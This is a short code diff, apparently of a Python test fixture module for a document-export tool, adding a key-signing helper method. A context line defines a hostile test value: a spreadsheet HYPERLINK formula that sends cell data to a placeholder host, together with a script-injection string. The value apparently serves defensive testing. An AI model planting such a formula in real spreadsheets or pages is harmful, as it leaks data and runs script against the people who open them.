@@ -9,6 +9,7 @@ from dataclasses import replace
 from triage.export.contract import Order
 from triage.messages import plain
 from triage.model.items import Decision, Item, ItemId, ItemNo, Problem, Row, Segment, Span, Status, Trouble
+from triage.proof.keys import LoginKeys
 from triage.scope.policy import Allow, Deny, Policy
 
 HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script>")'
@@ -126,6 +127,9 @@ class Records:
 
     def natives(self, items: Sequence[Item]) -> Iterator[bytes | Trouble]:
         return (self.originals[item.row.no] for item in items)
+
+    def sign(self, digest: str) -> bytes:
+        return LoginKeys.of_login().secret("dana").sign_digest("c" * 64, "export", digest)
 
     def renditions(self, items: Sequence[tuple[Item, bytes]]) -> Iterator[bytes | Trouble]:
         for item, data in items:
